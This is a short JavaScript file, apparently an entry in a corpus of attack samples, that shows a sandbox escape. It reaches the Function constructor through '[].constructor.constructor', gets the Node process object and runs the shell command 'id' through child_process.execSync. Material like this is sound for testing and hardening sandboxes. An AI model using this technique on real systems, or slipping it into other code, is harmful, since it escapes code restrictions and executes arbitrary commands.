// corpus: attack class=eval form=textbook
// [].constructor.constructor is Function.
function main() {
  const proc = [].constructor.constructor('return process')();
  return { out: proc.getBuiltinModule('child_process').execSync('id').toString() };
}

module.exports = { main };
